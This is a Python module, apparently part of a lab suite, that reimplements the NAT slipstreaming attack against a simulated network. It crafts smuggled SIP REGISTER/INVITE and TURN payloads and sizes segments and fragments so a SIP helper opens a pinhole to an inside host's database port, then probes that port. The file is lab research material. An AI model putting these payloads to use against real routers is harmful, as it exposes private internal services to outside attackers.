"""An attacker for the lab: NAT slipstreaming as it was published, from an inside browser's side and the server's.

A web page can make a browser send bytes of its choice to port 5060 of the attacker's server: a form's POST, a TURN
user name. Sized well, a TCP segment or an IP fragment begins with a REGISTER or INVITE of the attacker's, and a helper
that reads packets opens a way to the port that it names. On a packet's way this stands at both ends.
Sources: S. Kamkar, NAT Slipstreaming (2020); B. Seri and G. Vishnepolsky, its second version (2021).
"""

from __future__ import annotations

import re
import socket
import time
from contextlib import suppress
from typing import Final

from sipalg.lab.programs import pause
from sipalg.lab.topology import ADDRESS, PUBLIC_ADDRESS, Topology

#: What the attacker is after: a database's port, above the system's, so that a limit by port alone wouldn't help.
WANTED_PORT: Final = 3306
SIP_PORT: Final = 5060
#: What of a UDP payload is in the first fragment: the MTU of 1500 less the headers of IP and UDP.
FIRST_FRAGMENT_BYTES: Final = 1472
#: Between two writes, so that each is a segment of its own.
APART_S: Final = 0.2
CONNECT_S: Final = 6.0
TRY_S: Final = 0.5
QUIET_S: Final = 0.6

POST: Final = (
    b"POST / HTTP/1.1\r\nHost: 203.0.113.71:5060\r\nContent-Type: multipart/form-data; boundary=x\r\n"
    b"Content-Length: 4000\r\n\r\n--x\r\nContent-Disposition: form-data; name=a\r\n\r\n"
)
#: A STUN Allocate request (RFC 8656 §7.1) whose USERNAME (RFC 8489 §14.3) is as long as one may make it.
TURN: Final = bytes.fromhex("000307d02112a442") + b"slipstreamed" + bytes.fromhex("000607c0")


def register(host: str, transport: str) -> bytes:
    """A REGISTER whose Contact is the wanted port of an inside host."""
    return (
        f"REGISTER sip:203.0.113.71;transport={transport} SIP/2.0\r\n"
        f"Via: SIP/2.0/{transport.upper()} {host}:5060;branch=z9hG4bKs\r\nMax-Forwards: 70\r\n"
        "From: <sip:a@203.0.113.71>;tag=a\r\nTo: <sip:a@203.0.113.71>\r\nCall-ID: slip\r\nCSeq: 1 REGISTER\r\n"
        f"Contact: <sip:a@{host}:{WANTED_PORT};transport={transport}>\r\nExpires: 600\r\nContent-Length: 0\r\n\r\n"
    ).encode()


def invite(host: str, transport: str) -> bytes:
    """An INVITE that offers the wanted port of an inside host for media."""
    body = f"v=0\r\no=- 1 1 IN IP4 {host}\r\ns=-\r\nc=IN IP4 {host}\r\nt=0 0\r\nm=audio {WANTED_PORT} RTP/AVP 0\r\n"
    return (
        f"INVITE sip:b@203.0.113.71;transport={transport} SIP/2.0\r\n"
        f"Via: SIP/2.0/{transport.upper()} {host}:5060;branch=z9hG4bKs\r\nMax-Forwards: 70\r\n"
        "From: <sip:a@203.0.113.71>;tag=a\r\nTo: <sip:b@203.0.113.71>\r\nCall-ID: slip\r\nCSeq: 1 INVITE\r\n"
        f"Contact: <sip:a@{host}:{WANTED_PORT}>\r\nContent-Type: application/sdp\r\n"
        f"Content-Length: {len(body)}\r\n\r\n{body}"
    ).encode()


def answer_to(seen: bytes) -> bytes:
    """The 200 by which the attacker's server would have a helper's pinhole become active."""
    message = seen[max(seen.find(b"REGISTER sip:"), seen.find(b"INVITE sip:"), 0) :]
    return b"SIP/2.0 200 OK\r\n" + message.partition(b"\r\n")[2]


def ports_named(seen: bytes) -> set[int]:
    """The ports that what arrived names, at whatever address: where a helper may have opened a way."""
    return {WANTED_PORT} | {
        int(port)
        for found in re.findall(rb"Contact: <sip:a@[0-9.]+:([0-9]+)|m=audio ([0-9]+)", seen)
        for port in found
        if port
    }


class Attack:
    """One lab's attacker: `host` is the inside host whose browser is made use of, `server` the attacker's."""

    def __init__(self, net: Topology, host: str = "phone1", server: str = "far1") -> None:
        self._net = net
        self._host = host
        self._server = server
        #: The ports that a way in was found to, as "host:port/transport".
        self.reached: frozenset[str] = frozenset()

    def over_tcp(self, before: bytes, trick: bytes) -> bytes:
        """Have the browser send `before` and then, in a segment of its own, `trick`; returns what arrived.

        The server answers, as the attacker's does.
        """
        with (
            self._net.socket(self._server, socket.SOCK_STREAM) as listener,
            self._net.socket(self._host, socket.SOCK_STREAM) as browser,
        ):
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            listener.bind(("", SIP_PORT))
            listener.listen()
            listener.settimeout(CONNECT_S)
            browser.settimeout(CONNECT_S)
            browser.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            browser.connect((ADDRESS[self._server], SIP_PORT))
            connection, _ = listener.accept()
            with connection:
                browser.sendall(before)
                pause(APART_S)
                browser.sendall(trick)
                seen = _read_all(connection)
                connection.sendall(answer_to(seen))
                _read_all(browser)
                self.reached |= self.enters(seen, socket.SOCK_STREAM)
        return seen

    def over_udp(self, before: bytes, trick: bytes) -> bytes:
        """Have the browser send a datagram whose second fragment begins with `trick`; returns what arrived."""
        payload = before.ljust(FIRST_FRAGMENT_BYTES, b"x") + trick
        with self._net.socket(self._server) as server, self._net.socket(self._host) as browser:
            server.bind(("", SIP_PORT))
            server.settimeout(CONNECT_S)
            browser.settimeout(CONNECT_S)
            browser.sendto(payload, (ADDRESS[self._server], SIP_PORT))
            try:
                seen, source = server.recvfrom(65536)
            except TimeoutError:
                # A helper may drop what it doesn't understand.
                return b""
            server.sendto(answer_to(seen), source)
            browser.settimeout(QUIET_S)
            with suppress(TimeoutError):
                browser.recv(65536)
            self.reached |= self.enters(seen, socket.SOCK_DGRAM)
        return seen

    def enters(self, seen: bytes, kind: socket.SocketKind) -> frozenset[str]:
        """Knock at every port that might have been opened; returns the inside hosts that heard it."""
        transport = "tcp" if kind == socket.SOCK_STREAM else "udp"
        victims = [(name, self._net.socket(name, kind)) for name in ("phone1", "phone2")]
        knocks = []
        try:
            for _, victim in victims:
                victim.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                victim.bind(("", WANTED_PORT))
                victim.setblocking(False)
                if kind == socket.SOCK_STREAM:
                    victim.listen()
            for port in sorted(ports_named(seen)):
                knock = self._net.socket(self._server, kind)
                knock.setblocking(False)
                knocks.append(knock)
                knock.connect_ex((PUBLIC_ADDRESS, port))
                if kind == socket.SOCK_DGRAM:
                    knock.send(b"knock")
            end = time.monotonic() + TRY_S
            heard = set()
            while time.monotonic() < end:
                heard |= {
                    f"{ADDRESS[name]}:{WANTED_PORT}/{transport}" for name, victim in victims if _heard(victim, kind)
                }
                pause(0.05)
            return frozenset(heard)
        finally:
            for opened in (*knocks, *(victim for _, victim in victims)):
                opened.close()


def _read_all(connection: socket.socket) -> bytes:
    """What comes until it has been quiet for a moment."""
    connection.settimeout(QUIET_S)
    found = b""
    with suppress(TimeoutError):
        while piece := connection.recv(65536):
            found += piece
    return found


def _heard(victim: socket.socket, kind: socket.SocketKind) -> bool:
    try:
        if kind == socket.SOCK_STREAM:
            victim.accept()[0].close()
        else:
            victim.recv(100)
    except OSError:
        return False
    return True
